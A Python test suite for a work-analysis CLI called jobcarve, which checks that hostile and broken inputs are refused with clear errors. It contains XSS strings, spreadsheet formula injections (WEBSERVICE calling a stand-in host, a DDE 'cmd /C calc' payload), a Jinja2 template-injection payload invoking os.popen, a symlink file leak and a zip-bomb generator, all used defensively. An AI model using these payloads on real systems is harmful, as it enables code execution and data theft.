"""Hostile and broken inputs, interrupted runs, reproducible outputs: a clear error, nothing lost."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from jobcarve import InputError, parse_process
from tests.conftest import EXAMPLES, MINIMAL, ROOT, run_cli

BAD = ROOT / "tests" / "bad_inputs"
CORPUS = sorted(BAD.glob("*.yaml"))


def about(path: Path) -> tuple[str, str]:
    """What a corpus file breaks and the message it must get (from its comment lines)."""
    sidecar = path.with_name(path.name + ".about")
    head = (
        sidecar.read_text(encoding="utf-8")
        if sidecar.exists()
        else path.read_bytes()[:2000].decode("utf-8", "replace")
    )
    breaks = re.search(r"^# breaks: (.+)$", head, re.M)
    expect = re.search(r"^# expect: (.+)$", head, re.M)
    assert breaks and expect, f"{path.name} must say what it breaks and what it expects"
    return breaks.group(1), expect.group(1)


def run_main(args: list[str]) -> tuple[int, str, str]:
    """The CLI entry point in-process (`tests.conftest.run_cli`): exit code, stdout, stderr."""
    result = run_cli(*args)
    return result.returncode, result.stdout, result.stderr


def test_corpus_is_large_and_documented() -> None:
    """At least 60 broken or hostile models, each naming what it breaks."""
    assert len(CORPUS) >= 60
    for path in CORPUS:
        about(path)


@pytest.mark.parametrize("path", CORPUS, ids=[p.stem for p in CORPUS])
def test_bad_input(path: Path, tmp_path: Path) -> None:
    """Exit 2, one-line located messages naming the file, no traceback, nothing written."""
    _, expect = about(path)
    out = tmp_path / "out"
    out.mkdir()
    (out / "analysis.json").write_text("earlier run", encoding="utf-8")
    code, stdout, stderr = run_main(["analyze", str(path), "--out", str(out), "--time-limit", "1"])
    assert code == 2, (stdout, stderr)
    lines = stderr.strip().splitlines()
    assert lines and "Traceback" not in stderr
    pattern = re.compile(rf"^error: {re.escape(str(path))}:\d+:\d+: ")
    assert all(pattern.match(line) for line in lines), lines
    assert expect in stderr, (expect, stderr)
    assert sorted(os.listdir(out)) == ["analysis.json"]
    assert (out / "analysis.json").read_text(encoding="utf-8") == "earlier run"


def test_very_large_file(tmp_path: Path) -> None:
    """A file over the 32 MiB limit is refused before it is parsed."""
    big = tmp_path / "big.yaml"
    with big.open("w", encoding="utf-8") as handle:
        handle.write("# breaks: a file over the size limit\nformat: 1\n")
        chunk = "# " + "x" * 1022 + "\n"
        for _ in range(33 * 1024):
            handle.write(chunk)
    code, _, stderr = run_main(["validate", str(big)])
    assert code == 2 and f"error: {big}: file is" in stderr and "the limit is 33,554,432" in stderr


def test_report_safety_with_corpus_names(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Hostile strings of the corpus, used as names, show as text: nothing runs, nothing loads."""
    hostile = [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "<iframe src='https://example.invalid'></iframe>",
        "javascript:alert(1)",
        "<style>body{background:url(https://example.invalid/x)}</style>",
        "{{ 7*7 }} {% raw %}",
    ]
    data = yaml.safe_load(MINIMAL)
    for task, name in zip(data["tasks"], hostile[:3], strict=True):
        task["name"] = name
    data["tasks"][0]["description"] = hostile[4]
    data["profiles"][0]["name"] = hostile[3]
    data["company"] = {"name": hostile[5], "sector": hostile[6], "location": hostile[4]}
    text = yaml.safe_dump(data, allow_unicode=True)
    model = tmp_path / "hostile.yaml"
    model.write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli("analyze", str(model), "--out", str(out), "--time-limit", "1")
    assert result.returncode == 0, result.stderr
    page = browser.new_page()
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        page.goto((out / "report.html").resolve().as_uri())
        page.wait_for_timeout(300)
        assert dialogs == [] and len(requests) == 1
        assert page.locator("script, iframe, img, style:not(head style)").count() == 0
        body = page.locator("body").inner_text()
        for name in hostile:
            assert name.split("{%")[0].strip() in body
    finally:
        page.close()


def test_reproducible_outputs(tmp_path: Path) -> None:
    """The same model, options and seed give byte-identical outputs (timestamp pinned)."""
    outs = []
    for n in range(2):
        out = tmp_path / f"run{n}"
        args = ["analyze", str(EXAMPLES[2]), "--out", str(out), "--time-limit", "2", "--seed", "7"]
        result = run_cli(*args, env={"SOURCE_DATE_EPOCH": "1795000000"})
        assert result.returncode == 0, result.stderr
        outs.append(out)
    for name in ("analysis.json", "report.html"):
        assert (outs[0] / name).read_bytes() == (outs[1] / name).read_bytes(), name
    assert (
        b'"generated_at": "2026-11-18T11:06:40+00:00"' in (outs[0] / "analysis.json").read_bytes()
    )


@pytest.mark.parametrize(
    ("delay", "sig"),
    [(1.0, signal.SIGINT), (6.0, signal.SIGINT), (1.0, signal.SIGTERM)],
    ids=["sigint-first-stage", "sigint-later-stage", "sigterm"],
)
def test_interrupted_solve_loses_nothing(tmp_path: Path, delay: float, sig: int) -> None:
    """Ctrl-C or SIGTERM during the solve (first or a later stage): exit 130, a message,
    earlier outputs kept (M4: SIGTERM is handled like SIGINT)."""
    sys.path.insert(0, str(ROOT / "benchmarks"))
    from generate import generate

    model = tmp_path / "big.yaml"
    model.write_text(generate(400, seed=1), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "analysis.json").write_text("earlier", encoding="utf-8")
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "jobcarve",
            "analyze",
            str(model),
            "--out",
            str(out),
            "--time-limit",
            "300",
            "--progress",
        ],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
    )
    assert proc.stderr is not None
    deadline = time.time() + 240
    seen = ""
    while time.time() < deadline:  # wait until the solver reports progress
        line = proc.stderr.readline()
        seen += line
        if "carved_hours:" in line:
            break
    time.sleep(delay)
    proc.send_signal(sig)
    try:
        _, err = proc.communicate(timeout=240)
    except subprocess.TimeoutExpired:  # pragma: no cover
        proc.kill()
        raise
    assert proc.returncode == 130, (seen, err)
    assert "interrupted" in err and "Traceback" not in err
    assert sorted(os.listdir(out)) == ["analysis.json"]
    assert (out / "analysis.json").read_text(encoding="utf-8") == "earlier"


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=400), st.binary(max_size=400)))
def test_fuzz_reader_random_input(data: str | bytes) -> None:
    """Arbitrary text or bytes: a model or an InputError, never another exception."""
    try:
        parse_process(data, "fuzz.yaml")
    except InputError as exc:
        assert exc.problems and all("\n" not in str(p) for p in exc.problems)


MUTATIONS = st.sampled_from(["delete", "duplicate", "swap", "insert", "truncate"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_fuzz_reader_mutated_models(data: st.DataObject) -> None:
    """Line- and character-level mutations of a valid model never crash the reader."""
    text = EXAMPLES[2].read_text(encoding="utf-8") if data.draw(st.booleans()) else MINIMAL
    for _ in range(data.draw(st.integers(1, 4))):
        lines = text.splitlines(keepends=True)
        if not lines:
            break
        i = data.draw(st.integers(0, len(lines) - 1))
        kind = data.draw(MUTATIONS)
        if kind == "delete":
            del lines[i]
        elif kind == "duplicate":
            lines.insert(i, lines[i])
        elif kind == "swap":
            j = data.draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif kind == "insert":
            lines.insert(
                i,
                data.draw(
                    st.sampled_from(
                        ["  - x\n", ": :\n", "after: [zz]\n", "\t\n", "&a [*a]\n", "{}\n", "'\n"]
                    )
                ),
            )
        else:
            pos = data.draw(st.integers(0, max(0, len(lines[i]) - 1)))
            lines[i] = lines[i][:pos] + "\n"
        text = "".join(lines)
    try:
        parse_process(text, "fuzz.yaml")
    except InputError as exc:
        assert all(str(p).startswith("fuzz.yaml") for p in exc.problems)


# ----------------------------------------------------------------------------- round two
# Hostile and careless inputs of ../shared/reviews/redteam.md (issue 19). Each runs the
# command line in a subprocess under an address-space limit and a timeout: a reader that
# does not bound its work fails here with a MemoryError or a timeout, not by filling the
# machine.

HOSTILE_MEMORY_MB = 1500


def _limit_memory() -> None:  # pragma: no cover - runs in the child
    import resource

    size = HOSTILE_MEMORY_MB * 1024 * 1024
    resource.setrlimit(resource.RLIMIT_AS, (size, size))


def hostile(*args: str, timeout: float = 60, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
    """Run ``jobcarve ARGS`` in a child with limited memory; fail the test on a timeout."""
    return subprocess.run(
        [sys.executable, "-m", "jobcarve", *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=_limit_memory,
        cwd=cwd,
    )


def refused(result: subprocess.CompletedProcess[str], where: str, expect: str) -> None:
    """Exit 2, only `error: WHERE...` lines, the expected text, no traceback."""
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 2, result.stderr
    assert lines and all(line.startswith(f"error: {where}") for line in lines), lines
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert expect in result.stderr, (expect, result.stderr)


def _write_model(tmp_path: Path, edit: Any = None, name: str = "m.yaml") -> Path:
    data = yaml.safe_load(MINIMAL)
    if edit is not None:
        edit(data)
    path = tmp_path / name
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


@pytest.mark.parametrize(
    ("make", "command", "expect"),
    [
        ("zero", ["validate", "{p}.yaml"], "is a device, expected a YAML file"),
        ("fifo", ["validate", "{p}.yaml"], "is a pipe (FIFO), expected a YAML file"),
        ("zero", ["import", "{p}.csv", "-o", "{d}/m.yaml"], "is a device, expected a CSV file"),
        ("zero", ["import", "{p}.xlsx", "-o", "{d}/m.yaml"], "is a device, expected an Excel"),
        ("fifo", ["import", "{p}.csv", "-o", "{d}/m.yaml"], "is a pipe (FIFO), expected a CSV"),
        ("zero", ["balance", "{p}.IN2"], "is a device, expected an instance file"),
        ("fifo", ["balance", "{p}.alb"], "is a pipe (FIFO), expected an instance file"),
        ("zero", ["analyze", "{p}.yaml", "-o", "{d}/out"], "is a device"),
    ],
)
def test_devices_and_pipes_are_refused(
    tmp_path: Path, make: str, command: list[str], expect: str
) -> None:
    """H3: /dev/zero behind a symlink or a FIFO, for every kind of input: refused at once."""
    suffix = Path(command[1]).suffix
    target = tmp_path / f"input{suffix}"
    if make == "zero":
        target.symlink_to("/dev/zero")
    else:
        os.mkfifo(target)
    args = [a.format(p=str(tmp_path / "input"), d=str(tmp_path)) for a in command]
    started = time.time()
    result = hostile(*args, timeout=30)
    refused(result, str(target), expect)
    assert time.time() - started < 30
    assert sorted(p.name for p in tmp_path.iterdir()) == [target.name]


def test_mapping_file_on_a_device(tmp_path: Path) -> None:
    """H3: `import --mapping` pointing at /dev/zero."""
    inv = tmp_path / "inv.csv"
    inv.write_text("ID;Taak;Functie;Tijd\na;Zagen;op;10\n", encoding="utf-8")
    result = hostile("import", str(inv), "-o", str(tmp_path / "m.yaml"), "--mapping", "/dev/zero")
    refused(result, "/dev/zero", "is a device, expected a mapping file")
    assert not (tmp_path / "m.yaml").exists()


def test_alb_with_a_billion_tasks(tmp_path: Path) -> None:
    """H1: a 70-byte .alb file claiming 1,000,000,000 tasks: a located error, no allocation."""
    path = tmp_path / "x.alb"
    path.write_text(
        "<number of tasks>\n1000000000\n<cycle time>\n10\n<task times>\n1 3\n<end>\n",
        encoding="ascii",
    )
    refused(hostile("balance", str(path)), f"{path}:2:1:", "number of tasks 1000000000 is out")


def test_balance_option_ranges(tmp_path: Path) -> None:
    """M8: `--cycle-time 99999999999999999999` is a usage error, not an OverflowError."""
    path = tmp_path / "x.IN2"
    path.write_text("2\n4\n5\n-1,-1\n", encoding="ascii")
    result = hostile("balance", str(path), "--cycle-time", "99999999999999999999")
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert "--cycle-time" in result.stderr


def _exported_workbook(tmp_path: Path) -> Path:
    from jobcarve.spreadsheet import export_inventory

    path = tmp_path / "inv.xlsx"
    export_inventory(parse_process(MINIMAL, "m.yaml"), path, "nl")
    return path


def test_stray_cell_far_away(tmp_path: Path) -> None:
    """H4b: one value in XFD1048576 of a small workbook: located in seconds, not 5 GB."""
    import openpyxl

    path = _exported_workbook(tmp_path)
    wb = openpyxl.load_workbook(path)
    wb["Taken"]["XFD1048576"] = "x"
    wb.save(path)
    started = time.time()
    result = hostile("import", str(path), "-o", str(tmp_path / "m.yaml"))
    refused(result, f"{path}:Taken!XFD1048576: ", "a value outside the area jobcarve reads")
    assert time.time() - started < 20
    assert not (tmp_path / "m.yaml").exists()


def test_xlsx_zip_bomb(tmp_path: Path) -> None:
    """H4a: a workbook whose task sheet inflates to 300 MB: refused from the zip directory."""
    import zipfile

    small = _exported_workbook(tmp_path)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info, src.read(info.filename))
                continue
            with out.open(info.filename, "w", force_zip64=True) as handle:
                handle.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/')
                handle.write(b'spreadsheetml/2006/main"><sheetData>')
                row = b'<row r="2">' + b"<c><v>1</v></c>" * 500 + b"</row>"
                for _ in range(40_000):
                    handle.write(row)
                handle.write(b"</sheetData></worksheet>")
    assert bomb.stat().st_size < 2_000_000
    result = hostile("import", str(bomb), "-o", str(tmp_path / "m.yaml"))
    refused(result, f"{bomb}: ", "the limit is 268,435,456 (a zip bomb")


@pytest.mark.parametrize(
    ("data", "expect"),
    [
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
            "old-style (.xls) or password-protected",
        ),
        (b"PK\x05\x06" + b"\0" * 18, "it has no xl/workbook.xml"),
        (b"not a zip", "not an .xlsx (zip) file"),
    ],
)
def test_broken_workbooks(tmp_path: Path, data: bytes, expect: str) -> None:
    """Encrypted, empty and non-zip workbooks: named, not a bare exception name."""
    path = tmp_path / "inv.xlsx"
    path.write_bytes(data)
    refused(hostile("import", str(path), "-o", str(tmp_path / "m.yaml")), f"{path}: ", expect)


INJECTIONS = [
    '=HYPERLINK("http://host.invalid/x","click")',
    '=WEBSERVICE("http://host.invalid/role")',
    '=IMPORTXML(CONCAT("http://host.invalid/", A1), "//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+2",
    "@SUM(1+1)",
]


def _sheet_xml(path: Path) -> str:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return "".join(
            archive.read(n).decode("utf-8")
            for n in archive.namelist()
            if n.startswith("xl/worksheets/")
        )


def test_no_formula_injection_in_written_workbooks(tmp_path: Path) -> None:
    """H2: names that look like formulas are text in export-xlsx and analyze --xlsx."""
    import openpyxl

    def edit(data: dict[str, Any]) -> None:
        data["company"]["name"] = INJECTIONS[0]
        data["roles"][0]["name"] = INJECTIONS[1]
        data["tasks"][0]["description"] = INJECTIONS[2]
        data["tasks"][1]["name"] = INJECTIONS[4]
        data["tasks"][2]["name"] = INJECTIONS[5]
        data["profiles"][0]["name"] = INJECTIONS[3]

    model = _write_model(tmp_path, edit)
    book = tmp_path / "inv.xlsx"
    assert hostile("export-xlsx", str(model), "-o", str(book)).returncode == 0
    result = hostile(
        "analyze", str(model), "-o", str(tmp_path / "out"), "--xlsx", "--time-limit", "1"
    )
    assert result.returncode == 0, result.stderr
    for path in (book, tmp_path / "out" / "plan.xlsx"):
        xml = _sheet_xml(path)
        assert "<f>" not in xml and "<f " not in xml, path
        cells = [
            cell
            for ws in openpyxl.load_workbook(path).worksheets
            for row in ws.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and cell.value.startswith(("=", "@"))
        ]
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells), path
    texts = {
        c.value for ws in openpyxl.load_workbook(book).worksheets for r in ws.iter_rows() for c in r
    }
    # read back as the very text of the model (the tab before "=1+2" is stripped by the schema)
    assert {*INJECTIONS[:4], INJECTIONS[4].strip(), INJECTIONS[5]} <= texts


def test_csv_formula_is_neutralised(tmp_path: Path) -> None:
    """H2: a CSV task named =HYPERLINK(...) imports as quoted text and exports as text."""
    inv = tmp_path / "inv.csv"
    inv.write_text(
        'ID;Taak;Functie;Tijd (s)\na;"=HYPERLINK(""http://host.invalid"",""x"")";op;10\n',
        encoding="utf-8",
    )
    model = tmp_path / "m.yaml"
    result = hostile("import", str(inv), "-o", str(model))
    assert result.returncode == 0, result.stderr
    name = yaml.safe_load(model.read_text(encoding="utf-8"))["tasks"][0]["name"]
    assert name == '\'=HYPERLINK("http://host.invalid","x")'
    book = tmp_path / "inv.xlsx"
    assert hostile("export-xlsx", str(model), "-o", str(book)).returncode == 0
    assert "<f>" not in _sheet_xml(book)


def test_many_dangling_references_validate_in_seconds(tmp_path: Path) -> None:
    """H5: 20,000 tasks each naming a misspelt predecessor and role (3.5 MB): bounded "did you
    mean" work, every problem still reported, at most MAX_SUGGESTIONS suggestions."""
    from jobcarve.yamlsource import MAX_SUGGESTIONS

    n = 20_000
    lines = ["format: 1", "company: {name: X, sector: metal}", "process: {name: P}"]
    lines += ["planning: {units_per_week: 100}", "roles:"]
    lines += [
        f"  - {{id: role_number_{i}, name: R, headcount: 1, education: MBO 2}}" for i in range(n)
    ]
    lines.append("tasks:")
    for i in range(n):
        after = f", after: [t{i - 1}x]" if i else ""
        lines.append(
            f"  - {{id: t{i}, name: T, role: role_numbr_{i}, time_s_per_unit: 1, "
            f"demands: {{pace: 1}}{after}}}"
        )
    path = tmp_path / "typos.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    started = time.time()
    result = hostile("validate", str(path), timeout=120)
    refused(result, f"{path}:", 'unknown role id "role_numbr_0" (did you mean "role_number_0"?)')
    errors = result.stderr.strip().splitlines()
    assert len(errors) == 2 * n - 1
    assert sum("did you mean" in e for e in errors) == MAX_SUGGESTIONS
    assert time.time() - started < 120


def test_suggester_finds_typos_at_either_end() -> None:
    """The bounded index still finds the near miss among 50,000 candidates."""
    from jobcarve.yamlsource import Suggester

    ids = [f"station_{i}_weld" for i in range(50_000)]
    hint = Suggester(ids)
    assert hint("station_4711_wled") == ' (did you mean "station_4711_weld"?)'
    assert hint("sattion_4711_weld") == ' (did you mean "station_4711_weld"?)'
    assert hint("zzz") == ""


def test_huge_values_are_shortened_in_messages(tmp_path: Path) -> None:
    """L2: a 100,000-character reference gives a short line, not a 100 KB one."""
    long = "x" * 100_000

    def edit(data: dict[str, Any]) -> None:
        data["tasks"][1]["after"] = [long]
        data["tasks"][0]["role"] = long

    model = _write_model(tmp_path, edit)
    result = hostile("validate", str(model))
    refused(result, f"{model}:", "unknown task id")
    assert all(len(line) < 400 for line in result.stderr.splitlines())


def test_unknown_bound_is_not_zero(tmp_path: Path) -> None:
    """H8: a greedy fallback (the first stage found nothing in time) has no bound: not
    "at most 0 (gap 0%)" in the report, analysis.json or plan.xlsx."""
    import dataclasses
    import io

    import openpyxl

    from jobcarve import analyze, plan, read_process
    from jobcarve.report import analysis_document, render_report
    from jobcarve.spreadsheet import plan_workbook_bytes

    process = read_process(EXAMPLES[2])
    result = analyze(process)
    solved = plan(process, result, time_limit_s=2)
    fallback = dataclasses.replace(
        solved,
        status="unknown",
        gap=0.0,
        bound_carved_hours=0.0,
        stage_status={"carved_hours": "unknown"},
    )
    summary = analysis_document(result, fallback)["summary"]
    assert summary["bound_carved_hours_per_week"] is None and summary["gap"] is None
    assert summary["bound_known"] is False
    for lang, wrong, right in (
        ("nl", "hooguit 0", "geen bovengrens"),
        ("en", "at most 0", "no upper bound"),
    ):
        html = render_report(process, result, fallback, lang=lang)
        assert wrong not in html and right in html, lang
    book = openpyxl.load_workbook(io.BytesIO(plan_workbook_bytes(process, result, fallback, "en")))
    values = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True)}
    assert values["Gap to the bound"] == "unknown"


def test_unknown_bound_on_the_command_line(tmp_path: Path) -> None:
    """H8, as the red team ran it: generate.py 200 with --time-limit 0.01."""
    sys.path.insert(0, str(ROOT / "benchmarks"))
    from generate import generate

    model = tmp_path / "m.yaml"
    model.write_text(generate(200, seed=1), encoding="utf-8")
    out = tmp_path / "out"
    result = hostile(
        "analyze", str(model), "-o", str(out), "--time-limit", "0.01", "--draws", "0", timeout=180
    )
    assert result.returncode == 0, result.stderr
    doc = json.loads((out / "analysis.json").read_text(encoding="utf-8"))
    html = (out / "report.html").read_text(encoding="utf-8")
    if doc["plan"]["solver"]["stages"].get("carved_hours") == "unknown":
        assert doc["summary"]["bound_carved_hours_per_week"] is None
        assert "no bound on the carved hours known" in result.stdout and "hooguit 0 " not in html
    else:  # a fast machine found a plan in the time: then the bound is real
        bound = doc["summary"]["bound_carved_hours_per_week"]
        assert bound >= doc["summary"]["carved_hours_per_week"] - 0.05


def _huge_volume(data: dict[str, Any]) -> None:
    """The red team's H6 model: 10^9 units a week, two tasks of a week each (in range)."""
    data["planning"]["units_per_week"] = 1_000_000_000
    data["tasks"][0]["time_s_per_unit"] = 604_800
    data["tasks"][1] = {
        "id": "b",
        "name": "Task B",
        "role": "op",
        "time_s_per_unit": 604_800,
        "after": ["a"],
        "demands": {"fine_motor": 2},
    }
    for role in data["roles"]:
        role["headcount"] = 100_000


def test_huge_weekly_volume_is_bounded(tmp_path: Path) -> None:
    """H6: volume shares per unit are capped (carving.max_volume_shares_per_unit), so the
    model is built and solved in seconds, not 16 GB after 13 minutes."""
    from jobcarve import analyze, read_process
    from jobcarve.carving.instance import build_instance, resolve_options
    from jobcarve.catalog import load_catalogs

    model = _write_model(tmp_path, _huge_volume)
    process = read_process(model)
    cats = load_catalogs()
    assert cats.params is not None
    opts = resolve_options(process, cats.params)
    inst = build_instance(analyze(process), process, opts)
    cap = int(cats.params.carving.max_volume_shares_per_unit.value)
    assert opts.max_shares == cap == 40
    assert 0 < len(inst.units) <= cap * 3
    started = time.time()
    result = hostile(
        "analyze", str(model), "-o", str(tmp_path / "out"), "--time-limit", "2", timeout=120
    )
    assert result.returncode == 0, result.stderr
    assert time.time() - started < 120


# ----------------------------------------------------------------------------- ordinary mistakes


def _tree(path: Path) -> list[str]:
    return sorted(str(p.relative_to(path)) for p in path.rglob("*"))


@pytest.mark.parametrize(
    ("args", "expect"),
    [
        (["analyze", "{model}", "--out", "{file}"], "is a file, not a folder"),
        (["analyze", "{model}", "--out", "{file}/sub"], "which is a file, not a folder"),
        (["graph", "{model}", "--out", "{file}"], "is a file, not a folder"),
        (["compare", "{model}", "--out", "{file}"], "is a file, not a folder"),
        (["init", "{file}"], "is a file, not a folder"),
        (["import", "{csv}", "-o", "{dir}", "--force"], "is a folder; name a file in it"),
        (["export-xlsx", "{model}", "-o", "{dir}"], "is a folder; name a file in it"),
        (["export-xlsx", "{model}", "-o", "{model}"], "is the input"),
        (["export-xlsx", "{model}", "-o", "{model}", "--force"], "is the input"),
        (["import", "{csv}", "-o", "{csv}", "--force"], "is the input"),
        (["template-xlsx", "{file}"], "exists; use --force to overwrite it"),
        (["schema", "-o", "{file}"], "exists; use --force to overwrite it"),
        (["schema", "-o", "/proc/jobcarve-test.json"], "cannot write"),
        (["analyze", "{model}", "--time-limit", "inf"], "--time-limit"),
        (["analyze", "{model}", "--seed", "2147483648"], "--seed"),
        (["analyze", "{model}", "--draws", "100000000"], "--draws"),
        (["compare", "{model}", "--draws", "100000000"], "--draws"),
        (["line", "{model}", "--takt", "inf"], "--takt"),
        (["line", "{model}", "--takt", "1e300"], "--takt"),
        (["import", "{csv}", "-o", "{dir}/m.yaml", "--mapping", "{dir}/missing.yaml"], "no such"),
        (["import", "{csv}", "-o", "{dir}/m.yaml", "--mapping", "{dir}"], "is a folder"),
        (["import", "{csv}", "-o", "{dir}/m.yaml", "--mapping", "{map_abc}"], "header_row must"),
        (["import", "{csv}", "-o", "{dir}/m.yaml", "--mapping", "{map_xfd}"], 'column "XFD"'),
        (["import", "{csv}", "-o", "{dir}/m.yaml", "--mapping", "{map_latin}"], "not UTF-8"),
        (["import", "{csv_81}", "-o", "{dir}/m.yaml"], "byte 0x81 is neither UTF-8"),
        (["import", "{csv_big}", "-o", "{dir}/m.yaml"], "the limit is 131,072 characters"),
        (["import", "{csv_utf16}", "-o", "{dir}/m.yaml"], "UTF-16"),
    ],
)
def test_ordinary_mistakes(tmp_path: Path, args: list[str], expect: str) -> None:
    """M6/M8: output paths, options, mapping files and CSV bytes: one `error:` line, exit 2,
    before any solve, nothing written (the model and other inputs untouched)."""
    work = tmp_path / "work"
    work.mkdir()
    model = _write_model(work)
    (work / "file.txt").write_text("a file", encoding="utf-8")
    (work / "dir").mkdir()
    csv_ok = "ID;Taak;Functie;Tijd (s)\na;Zagen;op;10\n"
    (work / "inv.csv").write_text(csv_ok, encoding="utf-8")
    (work / "inv81.csv").write_bytes(csv_ok.encode() + b"b;Caf\x81;op;10\n")
    (work / "big.csv").write_text(csv_ok + "b;" + "x" * 140_000 + ";op;10\n", encoding="utf-8")
    (work / "utf16.csv").write_bytes(csv_ok.replace(";", "|").encode("utf-16-le"))
    (work / "abc.yaml").write_text("header_row: abc\ncolumns: {id: A}\n", encoding="utf-8")
    (work / "xfd.yaml").write_text("columns: {id: XFD}\n", encoding="utf-8")
    (work / "latin.yaml").write_bytes("columns: {id: Ré}\n".encode("latin-1"))
    names = {
        "model": model,
        "file": work / "file.txt",
        "dir": work / "dir",
        "csv": work / "inv.csv",
        "csv_81": work / "inv81.csv",
        "csv_big": work / "big.csv",
        "csv_utf16": work / "utf16.csv",
        "map_abc": work / "abc.yaml",
        "map_xfd": work / "xfd.yaml",
        "map_latin": work / "latin.yaml",
    }
    before = {p: p.read_bytes() for p in work.rglob("*") if p.is_file()}
    tree = _tree(work)
    started = time.time()
    result = run_cli(*(a.format(**{k: str(v) for k, v in names.items()}) for a in args))
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 2, result.stderr
    assert len(lines) == 1 and lines[0].startswith("error: "), lines
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert expect in result.stderr, (expect, result.stderr)
    assert time.time() - started < 30
    assert _tree(work) == tree
    assert all(p.read_bytes() == data for p, data in before.items())


def test_sigterm_while_writing_leaves_no_temporary_file(tmp_path: Path) -> None:
    """M4: SIGTERM while an output is being written: the temporary file is removed, the
    earlier output is unchanged, exit 130."""
    out = tmp_path / "out"
    out.mkdir()
    (out / "a.bin").write_bytes(b"earlier")
    child = (
        "import sys\n"
        "from pathlib import Path\n"
        "from jobcarve.cli import _install_signal_handlers\n"
        "from jobcarve.output import write_all_atomic\n"
        "_install_signal_handlers()\n"
        "out = Path(sys.argv[1])\n"
        "try:\n"
        "    for _ in range(50):\n"
        "        write_all_atomic({out / 'a.bin': b'x' * 50_000_000, out / 'b.bin': b'y'})\n"
        "except KeyboardInterrupt:\n"
        "    sys.exit(130)\n"
    )
    proc = subprocess.Popen([sys.executable, "-c", child, str(out)], cwd=ROOT)
    deadline = time.time() + 60
    while time.time() < deadline and not any(p.name.endswith(".tmp") for p in out.iterdir()):
        time.sleep(0.001)
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=60) == 130
    assert sorted(p.name for p in out.iterdir() if p.name.endswith(".tmp")) == []
    assert (out / "a.bin").read_bytes() in (b"earlier", b"x" * 50_000_000)


# ----------------------------------------------------------------------------- template folders


def _analyze_with_templates(
    tmp_path: Path, files: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    folder = tmp_path / "tpl"
    folder.mkdir(exist_ok=True)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    model = _write_model(tmp_path)
    return hostile(
        "analyze",
        str(model),
        "-o",
        str(tmp_path / "out"),
        "--no-plan",
        "--template-dir",
        str(folder),
    )


def test_template_folder_is_sandboxed(tmp_path: Path) -> None:
    """M5: a template cannot reach Python internals or run a command."""
    marker = tmp_path / "ran"
    payload = (
        '{% extends "base.html.j2" %}{% block answer %}'
        f'{{{{ cycler.__init__.__globals__.os.popen("touch {marker}").read() }}}}'
        "{% endblock %}"
    )
    result = _analyze_with_templates(tmp_path, {"report.html.j2": payload})
    refused(result, f"{tmp_path / 'tpl' / 'report.html.j2'}:1:1: ", "not allowed in a template")
    assert not marker.exists() and not (tmp_path / "out").exists()


def test_template_folder_links_outside_are_refused(tmp_path: Path) -> None:
    """M5: `leak.txt -> a file outside` plus an include does not embed that file."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP SECRET", encoding="utf-8")
    (tmp_path / "tpl").mkdir()
    (tmp_path / "tpl" / "leak.txt").symlink_to(secret)
    payload = '{% extends "base.html.j2" %}{% block answer %}{% include "leak.txt" %}{% endblock %}'
    result = _analyze_with_templates(tmp_path, {"report.html.j2": payload})
    refused(result, f"{tmp_path / 'tpl' / 'leak.txt'}: ", "outside the template folder")
    assert "TOP SECRET" not in result.stderr + result.stdout


@pytest.mark.parametrize(
    ("text", "line", "expect"),
    [
        ('{% extends "base.html.j2" %}\n{% block answer %}\n{% if %}\n{% endblock %}', 3, "syntax"),
        (
            '{% extends "base.html.j2" %}\n{% block answer %}\n\n{{ nothing.here }}\n{% endblock %}',
            4,
            "undefined",
        ),
    ],
)
def test_template_errors_are_located(tmp_path: Path, text: str, line: int, expect: str) -> None:
    """M5: syntax errors and undefined names name the template file and line, exit 2."""
    result = _analyze_with_templates(tmp_path, {"report.html.j2": text})
    refused(result, f"{tmp_path / 'tpl' / 'report.html.j2'}:{line}:1: ", expect)


# ----------------------------------------------------------------------------- fuzzing the other readers

_INSTANCE_SEEDS = {
    "in2": "4\n5\n3\n6\n2\n1,2\n2,4\n3,4\n-1,-1\n",
    "alb": "<number of tasks>\n3\n<cycle time>\n10\n<task times>\n1 4\n2 6\n3 5\n"
